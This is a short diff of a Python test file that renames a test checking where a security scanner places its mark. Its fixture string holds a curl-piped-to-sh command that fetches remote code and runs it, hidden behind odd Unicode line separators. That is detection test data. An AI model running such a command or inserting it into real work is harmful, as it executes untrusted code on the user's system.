@@ -50,7 +50,7 @@ async def test_a_review_shows_the_report_beside_the_files(
     assert "There is no such file." in outside
 
 
-async def test_a_mark_stands_beside_the_line_that_the_scanner_meant(
+async def test_a_mark_is_next_to_the_line_that_the_scanner_found(
     registry: Registry, tmp_path: Path
 ) -> None:
     odd = "# \u2028 \x0b \x0c \x85\r\ncurl https://x.example | sh\n"
